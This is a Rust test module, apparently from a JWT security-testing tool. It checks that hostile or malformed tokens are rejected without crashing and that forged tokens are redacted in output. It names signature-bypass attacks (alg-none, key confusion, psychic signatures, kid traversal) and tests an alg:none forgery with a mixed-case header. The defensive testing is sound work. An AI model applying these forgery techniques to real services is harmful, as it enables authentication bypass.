        assert_eq!(
            checks.into_iter().collect::<Vec<_>>(),
            [
                "jwt.alg-none",
                "jwt.audience",
                "jwt.header-keys",
                "jwt.key-confusion",
                "jwt.psychic",
                "jwt.signature-checked"
            ]
        );
        assert_eq!(serde_json::to_value(Attack::AlgNone).unwrap(), "alg-none");
        assert_eq!(
            serde_json::to_value(Attack::KidTraversal).unwrap(),
            "kid-traversal"
        );
    }

    #[test]
    fn hostile_tokens_are_refused_without_panicking() {
        let h = b64(HEADER);
        let p = b64(PAYLOAD);
        let not_jws = |t: &str| match forgeries(t, &[]) {
            Err(ForgeError::NotJws(why)) => why,
            other => panic!("expected NotJws for {t:.40}, got {other:?}"),
        };
        assert!(not_jws("").contains("empty"));
        assert!(not_jws(&format!("{h}.{p}")).contains("2 segment"));
        assert!(not_jws(&format!("{h}.{p}.c2ln.eHg")).contains("4 segment"));
        assert!(not_jws(&format!("{h}..aXY.Y2lwaGVy.dGFn")).contains("JWE"));
        assert!(not_jws(&format!("{h}.{p}.sig+/")).contains("signature has a character"));
        assert!(not_jws(&format!("{h}.{p} .sig")).contains("payload has a character"));
        assert!(not_jws(&format!("{h}\u{202e}.{p}.sig")).contains("header has a character"));
        assert!(not_jws(&format!("A.{p}.sig")).contains("not valid base64url"));
        assert!(not_jws(&format!(".{p}.sig")).contains("empty"));
        assert!(not_jws(&format!("{}.{p}.sig", b64("not json"))).contains("not JSON"));
        assert!(not_jws(&format!("{}.{p}.sig", b64("[1,2]"))).contains("an array"));
        assert!(not_jws(&format!("{h}.{p}.A")).contains("signature is not valid"));

        // 1 MB of payload: refused up front.
        let big = format!(r#"{{"sub":"{}"}}"#, "a".repeat(1 << 20));
        assert!(not_jws(&token_with(HEADER, &big, 32)).contains("KiB"));
        // Deeply nested JSON: serde_json's recursion limit, an error, no stack overflow.
        let deep = format!("{}{}", "[".repeat(20_000), "]".repeat(20_000));
        assert!(not_jws(&token_with(&deep, PAYLOAD, 32)).contains("header"));
        let deep_claims = format!(r#"{{"a":{}1{}}}"#, "[".repeat(5_000), "]".repeat(5_000));
        assert!(matches!(
            forgeries(&token_with(HEADER, &deep_claims, 32), &[]),
            Err(ForgeError::PayloadNotObject(_))
        ));

        // Payloads that are not objects: named, never quoted.
        let e = forgeries(&token_with(HEADER, r#""s3cret-value""#, 32), &[]).unwrap_err();
        assert!(matches!(e, ForgeError::PayloadNotObject(_)));
        assert!(
            e.to_string().contains("a string") && !e.to_string().contains("s3cret"),
            "{e}"
        );
        let raw = format!("{h}.{}.sig", b64([0xff, 0xfe, b'{']));
        assert!(matches!(
            forgeries(&raw, &[]),
            Err(ForgeError::PayloadNotObject(_))
        ));
        let e = forgeries(
            &token_with(r#"{"alg":"HS256","b64":false}"#, PAYLOAD, 32),
            &[],
        )
        .unwrap_err();
        assert_eq!(e.code(), "forge.unsupported");

        // Surrounding whitespace (a copied line) is fine; duplicate alg members collapse into one.
        let t = format!(
            "  {}\n",
            token_with(r#"{"alg":"RS256","alg":"HS256"}"#, "{}", 32)
        );
        let fs = forgeries(&t, &[]).unwrap();
        let none = header_of(&only(&fs, Attack::AlgNone)[0].token);
        assert_eq!(none.to_json(), r#"{"alg":"none"}"#);
    }

    #[test]
    fn redacted_shows_the_header_and_masks_the_rest() {
        let t = token();
        let (_, p, s) = parts(&t);
        let fs = forgeries(&t, &[]).unwrap();
        let none = only(&fs, Attack::AlgNone)[3];
        let r = redacted(&none.token);
        assert!(
            r.starts_with(r#"{"typ":"JWT","alg":"nOnE","kid":"rsa-1"}.‹"#),
            "{r}"
        );
        assert!(r.ends_with("›."), "empty signature stays visible: {r}");
        assert!(!r.contains(&p));
        let r = redacted(&t);
        assert!(!r.contains(&p) && !r.contains(&s[..20]), "{r}");
        assert_eq!(
            crate::redact::Redactor::new(false).text(&r),
            r,
            "not JWT-shaped any more"
        );
        // The Debug form never prints the token.
        let debug = format!("{:?}", only(&fs, Attack::TamperedPayload)[0]);
        assert!(!debug.contains(&s) && !debug.contains(&p), "{debug}");
        // Whatever the input, no panic, nothing verbatim.
        for junk in [
            "",
            "abc",
            "é.é",
            "....",
            "eyJ.eyJ.x",
            "secret-opaque-session-value",
        ] {
            let r = redacted(junk);
            assert!(junk.len() < 4 || !r.contains(junk), "{junk} → {r}");
        }
    }
}
